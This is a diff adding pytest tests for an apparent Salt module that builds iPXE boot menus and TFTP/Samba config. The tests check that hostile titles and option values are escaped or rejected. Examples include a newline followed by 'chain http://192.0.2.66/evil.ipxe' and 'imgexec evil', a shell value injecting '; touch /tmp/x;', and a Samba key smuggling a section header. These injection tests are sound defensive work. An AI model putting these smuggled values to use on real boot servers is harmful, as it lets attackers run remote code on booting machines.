@@ -94,3 +94,50 @@ def test_http_entries_load_everything_from_the_http_url():
     assert entry[2] == "kernel http://192.0.2.5/tftp/wimboot"
     assert entry[3] == "initrd -n BCD http://192.0.2.5/tftp/installers/Win10/x64/boot/bcd BCD"
     assert entry[4] == "initrd -n winpeshl.ini http://192.0.2.5/tftp/ipxe/winpeshl.ini winpeshl.ini"
+
+
+def test_title_cannot_add_an_ipxe_command():
+    p = params()
+    p.update(
+        menu={"title": "M\nchain http://x/evil", "timeout": 0, "default": None, "http_url": None},
+        wimboot={"file": "wimboot", "args": ""},
+    )
+    p["installers"][0]["title"] = "W && chain http://192.0.2.66/evil.ipxe ${x}\nimgexec evil"
+    lines = ipxe.menu(p, {"w10": [["BCD", "b"]]}).splitlines()
+    assert "menu M_chain http://x/evil" in lines
+    assert not [line for line in lines if line.startswith(("chain", "imgexec"))]
+    assert "echo Booting W __ chain http://192.0.2.66/evil.ipxe _{x}_imgexec evil ..." in lines
+
+
+def test_shell_assignments_are_quoted():
+    text = ipxe.shell_assignments({"TFTP_OPTIONS": '--secure"; touch /tmp/x; "'})
+    assert text == "TFTP_OPTIONS='--secure\"; touch /tmp/x; \"'\n"
+
+
+def test_block_is_added_replaced_and_removed_leaving_the_rest():
+    site = 'TFTP_USERNAME="tftp"\nTFTP_OPTIONS="--secure -v"\n'
+    once = ipxe.block_set(site, "TFTP_DIRECTORY=/srv/tftp\n")
+    assert once.startswith(site) and once.endswith("TFTP_DIRECTORY=/srv/tftp\n# END labsalt ipxe\n")
+    twice = ipxe.block_set(once + "# a site line added later\n", "TFTP_DIRECTORY=/srv/x\n")
+    assert twice.count("# BEGIN labsalt ipxe") == 1 and "/srv/x" in twice
+    assert twice.endswith("# a site line added later\n")
+    assert ipxe.block_remove(once) == site
+    assert ipxe.block_remove(site) == site
+
+
+def test_check_refuses_create_and_odd_samba_options():
+    p = params(guest=True)
+    p.update(menu={"default": None, "http_url": None}, tftp={"options": "--secure -c"})
+    with pytest.raises(SaltInvocationError, match="ipxe:tftp:options: --create"):
+        ipxe.check(p)
+    p.update(tftp={"options": "--secure"}, samba={"global": {"log level\n[x]": "1"}})
+    with pytest.raises(SaltInvocationError, match="ipxe:samba:global: "):
+        ipxe.check(p)
+
+
+def test_smb_conf_block_goes_at_the_end_of_global():
+    site = "[global]\n   workgroup = LAB\n\n[Global]\n   x = y\n[public]\n   path = /srv\n"
+    text = ipxe.block_set(site, "include = /etc/samba/labsalt-ipxe.conf", smb_global=True)
+    assert "include = /etc/samba/labsalt-ipxe.conf\n# END labsalt ipxe\n[public]\n" in text
+    assert ipxe.block_remove(text) == site
+    assert ipxe.block_set(text, "include = /x", smb_global=True).count("BEGIN labsalt") == 1
